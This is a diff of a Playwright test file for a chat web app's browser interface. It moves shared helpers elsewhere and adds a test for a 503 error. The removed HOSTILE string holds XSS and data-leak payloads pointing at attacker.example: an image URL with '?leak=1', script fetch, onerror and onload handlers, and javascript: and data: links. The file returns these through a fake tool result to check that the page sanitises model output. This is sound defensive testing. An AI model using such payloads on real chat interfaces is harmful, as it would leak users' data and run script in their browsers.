@@ -3,19 +3,17 @@
 import re
 import shutil
 from collections.abc import Iterator
-from dataclasses import dataclass, field
 from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
+from playwright.sync_api import Browser, Page, expect, sync_playwright
 
-from tests.fakes.messages_turns import Turn, rejects, says, uses
+from tests.ways.browsing import HOSTILE, PASSWORD, answer, set_up, watched
 from tests.ways.house import House, house
 
 CHROMIUM = shutil.which("chromium")
 FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
-PASSWORD = "a-long-Pass-phrase-9"
 PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
 
 pytestmark = [
@@ -23,51 +21,6 @@ pytestmark = [
     pytest.mark.slow,
     pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium"),
 ]
-
-HOSTILE = """Here you are.
-![pixel](https://attacker.example/markdown.png?leak=1)
-![ref][r]
-<img src="https://attacker.example/html.png" onerror="alert(1)">
-<script>fetch('https://attacker.example/script')</script>
-<iframe src="https://attacker.example/frame"></iframe>
-<svg onload="alert(2)"><image href="https://attacker.example/svg.png"/></svg>
-<link rel="stylesheet" href="https://attacker.example/style.css">
-<base href="https://attacker.example/">
-[run me](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)
-[a friendly bank](https://attacker.example/bank)
-
-[r]: https://attacker.example/reference.png
-"""
-
-
-def answer(body: dict[str, Any]) -> Any:
-    """The model of these tests: what it does is in the question."""
-    last = body["messages"][-1]["content"]
-    if not isinstance(last, str) and any(one.get("type") == "tool_result" for one in last):
-        hostile = "attacker" in str(last)
-        return says(HOSTILE) if hostile else says("It is **noon**, says the clock.")
-    asked = last if isinstance(last, str) else last[-1]["text"]
-    return _first_turn(asked)
-
-
-def _first_turn(asked: str) -> Turn | Any:
-    if "write" in asked:
-        return uses(("upstream__get_time", {}), ("upstream__write_note", {"text": "x"}))
-    if "slow" in asked:
-        return uses(("upstream__slow", {"seconds": 20 if "very" in asked else 2}))
-    if "hostile" in asked:
-        return uses(("upstream__echo", {"text": HOSTILE}), text=HOSTILE)
-    if "fail" in asked:
-        return rejects(400, "invalid_request_error", "No.")
-    return uses(("upstream__get_time", {}), text="Let me look.")
-
-
-@dataclass
-class Watch:
-    """What a context's pages did that nobody should see."""
-
-    foreign: list[str] = field(default_factory=list)
-    problems: list[str] = field(default_factory=list)
 
 
 @pytest.fixture(scope="module")
@@ -78,6 +31,8 @@ def home() -> Iterator[House]:
 
 @pytest.fixture(scope="module")
 def browser() -> Iterator[Browser]:
+    # Two cores may be busy with other tests.
+    expect.set_options(timeout=20_000)
     with sync_playwright() as playwright:
         with_flags = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
         yield with_flags
@@ -87,45 +42,7 @@ def browser() -> Iterator[Browser]:
 @pytest.fixture(scope="module")
 def sessions(browser: Browser, home: House) -> dict[str, Any]:
     """Each person's session, after they have set their password by their link."""
-    return {who: _set_up(browser, home, who) for who in home.tokens}
-
-
-def _set_up(browser: Browser, home: House, who: str) -> Any:
-    context = browser.new_context()
-    page = context.new_page()
-    page.goto(home.setup_url(who))
-    for number in (1, 2):
-        page.fill(f"[name=new_password{number}]", PASSWORD)
-    page.click("button[type=submit]")
-    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
-    state = context.storage_state()
-    context.close()
-    return state
-
-
-def watched(context: BrowserContext, home: House) -> Watch:
-    """Note every request to another host (and stop it), dialog, console error and page error."""
-    watch = Watch()
-    own = urlsplit(home.base).netloc
-
-    def route(route: Any) -> None:
-        if urlsplit(route.request.url).netloc == own:
-            route.continue_()
-            return
-        watch.foreign.append(route.request.url)
-        route.abort()
-
-    def attach(page: Page) -> None:
-        page.on("pageerror", lambda error: watch.problems.append(str(error)))
-        page.on("dialog", lambda dialog: (watch.problems.append(dialog.message), dialog.dismiss()))
-        page.on(
-            "console",
-            lambda said: watch.problems.append(said.text) if said.type == "error" else None,
-        )
-
-    context.route("**/*", route)
-    context.on("page", attach)
-    return watch
+    return {who: set_up(browser, home, who) for who in home.tokens}
 
 
 @pytest.fixture
@@ -133,24 +50,29 @@ def visit(browser: Browser, home: House, sessions: dict[str, Any]) -> Iterator[A
     """Open a page as somebody; at the end nothing foreign may have happened on it."""
     opened = []
 
-    def open_as(who: str = "dev@example.com", path: str = "/", **options: Any) -> Page:
+    def open_as(
+        who: str = "dev@example.com", path: str = "/", *, provoked: str = "", **options: Any
+    ) -> Page:
         context = browser.new_context(storage_state=sessions.get(who), **options)
-        opened.append((context, watched(context, home)))
+        opened.append((context, watched(context, home), provoked))
         page = context.new_page()
         page.goto(home.base + path)
         return page
 
     yield open_as
-    for context, watch in opened:
+    for context, watch, provoked in opened:
         context.close()
-        assert (watch.foreign, watch.problems) == ([], [])
+        problems = [one for one in watch.problems if not provoked or provoked not in one]
+        assert (watch.foreign, problems) == ([], [])
 
 
 def ask(page: Page, text: str) -> Any:
     """Type a question and send it by the keyboard; the article that will hold its answer."""
+    articles = page.locator("article.question")
+    earlier = articles.count()
     page.get_by_label("Your question").fill(text)
     page.keyboard.press("Enter")
-    return page.locator("article.question").last
+    return articles.nth(earlier)
 
 
 # --- Asking ---------------------------------------------------------------------------------------
@@ -236,6 +158,23 @@ def test_a_failure_is_said_and_the_box_is_free_again(visit):
 
     expect(article.locator(".note.bad")).to_contain_text("could not be answered")
     expect(ask(page, "What time is it?").locator(".answer")).to_be_visible()
+
+
+def test_what_cannot_be_sent_stays_in_the_box(visit):
+    page = visit(provoked="status of 503")
+    page.route(
+        "**/api/query",
+        lambda route: route.fulfill(
+            status=503, json={"error": {"code": "x", "message": "Not now."}}
+        ),
+    )
+    page.get_by_label("Your question").fill("What time is it?")
+    page.keyboard.press("Enter")
+
+    expect(page.get_by_role("alert")).to_have_text("Not now.")
+    expect(page.get_by_label("Your question")).to_have_value("What time is it?")
+    expect(page.locator("article.question")).to_have_count(0)
+    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
 
 
 def test_your_tools_shows_what_is_open_and_why_the_rest_is_not(visit):
